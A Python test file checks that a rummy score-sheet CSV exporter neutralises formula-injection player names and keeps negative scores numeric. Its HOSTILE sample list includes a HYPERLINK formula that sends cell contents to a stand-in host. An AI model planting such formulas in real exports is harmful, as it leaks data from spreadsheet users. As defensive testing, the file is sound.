"""The CSV score sheet opens safely in a spreadsheet: no text cell can start a formula, numbers stay numbers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from referee.games.rummy.ledger.exchange import FORMULA_TRIGGERS, score_sheet_csv, tally
from tests.properties import examples

GAMES = Path(__file__).parents[2]

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"go")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def carrillo_with(names: list[str]) -> str:
    """The Carrillo game (it has negative exact-cut adjustments) with the players renamed, as CSV."""
    text = (GAMES / "telefunken-peru-carrillo.json").read_text(encoding="utf-8")
    for old, new in zip(["Ana", "Beto", "Caro", "Dani"], names, strict=True):
        text = text.replace(f'"{old}"', json.dumps(new))
    state = tally(json.loads(text)).state
    assert state is not None
    assert state.players == tuple(names)
    return score_sheet_csv(state)


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert is_number(cell) or not cell.startswith(FORMULA_TRIGGERS), (cell, row)


def test_formula_names_are_read_back_as_text_and_negative_scores_as_numbers(tmp_path: Path) -> None:
    path = tmp_path / "sheet.csv"
    sheet = carrillo_with(HOSTILE)
    # Text cells are quoted, numbers bare: a spreadsheet reads −20 as the number −20.
    assert '"adjustment",2,"","","","exact cut: deal 1\'s points erased",-20,"","",""\n' in sheet
    path.write_text(sheet, encoding="utf-8")
    with path.open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0][6:] == ["'" + name for name in HOSTILE]
    assert rows[1][2:4] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]  # dealer and who went out, deal 1
    assert_safe(rows)
    # Deal 2's exact-cut erasure is −20 on the first player: still a number a spreadsheet adds up.
    assert rows[8][:6] == ["adjustment", "2", "", "", "", "exact cut: deal 1's points erased"]
    assert int(rows[8][6]) == -20
    total = next(r for r in rows if r[0] == "total")
    assert [int(cell) for cell in total[6:]] == [20 + 4 + 20 + 0 + 0 + 30 + 1 - 20, 41, 32 - 6, 24 - 8]


def test_ordinary_names_are_written_as_they_are() -> None:
    rows = list(csv.reader(io.StringIO(carrillo_with(["Ana", "Beto", "O'Brien", "Dani"]))))
    assert rows[0][6:] == ["Ana", "Beto", "O'Brien", "Dani"]


NAME_START = st.sampled_from([*FORMULA_TRIGGERS, "", "'", " ", "A", "1"])
NAME_REST = st.text(st.characters(blacklist_categories=["Cs"]), max_size=12)


@settings(max_examples=examples(60), deadline=None)
@given(st.lists(st.tuples(NAME_START, NAME_REST).map("".join).filter(str.strip), min_size=4, max_size=4,
                unique_by=lambda name: name.strip().casefold()))
def test_no_text_cell_starts_a_formula(names: list[str]) -> None:
    """Whatever the players are called, every cell read back is a number or starts with no formula character."""
    from referee.games.rummy.ledger.events import DealEnded, GameCreated
    from referee.games.rummy.ledger.state import EventRefused, apply, start

    try:
        state = start(GameCreated(variant="telefunken-peru-carrillo", players=tuple(names), first_dealer=names[0]))
    except EventRefused:
        return  # names the ledger refuses never reach a sheet
    state = apply(state, DealEnded(deal=1, went_out=names[1], hands={names[0]: 7, names[2]: "KH", names[3]: 0}))
    rows = list(csv.reader(io.StringIO(score_sheet_csv(state), newline="")))
    assert_safe(rows)
    assert [int(cell) for cell in rows[1][6:]] == [7, 0, 10, 0]
